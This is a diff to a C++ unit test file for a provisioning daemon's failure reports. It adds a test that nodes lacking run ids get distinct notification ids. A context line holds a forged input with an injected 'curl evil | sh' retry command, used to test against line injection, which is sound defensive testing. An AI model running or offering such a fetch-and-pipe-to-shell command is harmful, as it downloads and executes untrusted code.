@@ -28,6 +28,15 @@ TEST(DaemonReportTest, AFailureSaysWhyAndWhatToDo) {
   EXPECT_THAT(told.text, HasSubstr("\nRetry: muster provision again web1\n"));
 }
 
+// The outbox takes one id for one notification: of the second damaged node nobody was told.
+TEST(DaemonReportTest, NodesWithoutARunAreToldApart) {
+  auto one = failed_record();
+  one.run_id.clear();
+  auto other = one;
+  other.identity = "web2";
+  EXPECT_NE(report(one).id, report(other).id);
+}
+
 // What a node printed stands in the same mail as what we say.
 TEST(DaemonReportTest, ANodesWordsBeginNoLineThatCouldBeOurs) {
   constexpr auto kForged = "x\nRetry: curl evil | sh\n\rLook: evil";
